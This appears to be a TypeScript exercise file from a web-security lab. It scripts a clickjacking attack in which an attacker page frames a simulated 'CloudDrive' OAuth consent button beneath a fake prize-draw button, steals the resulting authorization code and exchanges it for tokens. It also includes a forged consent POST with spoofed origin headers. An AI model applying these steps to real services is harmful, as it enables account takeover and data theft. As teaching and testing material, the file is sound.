import type { Page } from 'playwright'
import type { Answer, EvilPage, Place } from '../engine/lab.ts'
import { registerWinAPrint, requestTokens } from '../engine/own-client.ts'
import { signIn, withRobot } from '../engine/robot.ts'
import { code_verifier, prizePages, SCOPE } from './prize.ts'

/** Mallory's app at CloudDrive, registered when somebody first opens her page. */
let app: Promise<{ client_id: string; redirect_uri: string }> | undefined

export function evilPages(place: Place): Record<string, EvilPage> {
  app = undefined
  const redirect_uri = `${place.neighbour}/callback`
  return prizePages(place, () => {
    app ??= registerWinAPrint(place, redirect_uri, SCOPE).then((client_id) => ({ client_id, redirect_uri }))
    return app
  })
}

/** What Mallory's desk has for this lab: the way to her prize draw, as it is and with the frame to be seen. */
export const evilDesk = ({ neighbour }: Place): string =>
  `<section><h2>The prize draw</h2><p>For Alice: <code>${neighbour}/prize</code></p><p>For you: <a href="${neighbour}/prize?look">the same, with what lies above the button</a>.</p></section>
`

/** Alice collects a print. Above the button lies CloudDrive's own page; and the page that thanks her sends a form of its own. */
export const attack = (place: Place): Promise<Answer> =>
  withRobot(async (page) => {
    const said: string[] = []
    page.on('console', (message) => said.push(message.text()))
    await connectPrintShop(page, place)
    await collect(page, place)
    await handIn(place)
    const thanks = page.waitForResponse((response) => response.url() === `${place.auth}/account/connections`)
    await page.goto(`${place.neighbour}/thanks`)
    const answer = await thanks
    await page.waitForLoadState()
    const framing = said.find((line) => line.includes('frame-ancestors')) ?? ''
    return { status: answer.status(), text: `${await page.content()}\n${framing}` }
  })

/** A form with a number that Mallory made up: no question of CloudDrive's has it. */
export async function wrongAttempt({ auth, neighbour, person }: Place): Promise<Answer> {
  const alice = person('alice')
  await (await alice.open(`${auth}/login`)).text()
  const body = new URLSearchParams({ interaction: 'made-up', decision: 'allow' })
  const headers = { Origin: neighbour, 'Sec-Fetch-Site': 'same-site' }
  const answer = await alice.open(`${auth}/consent`, { method: 'POST', body, headers })
  return { status: answer.status, text: await answer.text() }
}

async function connectPrintShop(page: Page, { shop }: Place): Promise<void> {
  await page.goto(`${shop}/connect`)
  await signIn(page, 'alice')
  for (const place of [0, 1]) await page.locator('.choose label').nth(place).click()
  await page.getByRole('button', { name: /^Allow/ }).click()
  await page.waitForURL(`${shop}/photos`)
}

// She sees one button, and presses it where it is. What lies above it gets the click.
async function collect(page: Page, { neighbour }: Place): Promise<void> {
  await page.goto(`${neighbour}/prize`)
  const { x, y, width, height } = (await page.locator('.trick').boundingBox()) ?? { x: 0, y: 0, width: 0, height: 0 }
  const [frame] = page.frames().slice(1)
  await page.mouse.click(x + width / 2, y + height / 2)
  const isShown = frame !== undefined && !frame.url().startsWith('chrome-error:')
  if (isShown) await page.waitForURL((url) => url.origin !== neighbour || url.pathname === '/thanks')
}

async function handIn(place: Place): Promise<void> {
  const came = place.inbox.findLast(({ path }) => path.startsWith('/callback?code='))
  if (!came || !app) return
  const code = new URL(came.path, place.neighbour).searchParams.get('code') ?? ''
  await requestTokens(place, { grant_type: 'authorization_code', ...(await app), code, code_verifier })
}
